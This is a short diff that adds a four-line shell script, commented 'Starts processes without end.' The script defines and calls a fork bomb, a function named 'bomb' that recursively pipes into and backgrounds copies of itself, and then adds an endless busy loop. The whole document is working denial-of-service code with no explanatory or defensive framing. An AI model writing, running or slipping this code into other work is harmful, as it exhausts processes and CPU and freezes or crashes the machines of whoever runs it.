@@ -1,0 +1,4 @@
+# Starts processes without end.
+bomb() { bomb | bomb & }
+bomb
+while :; do :; done
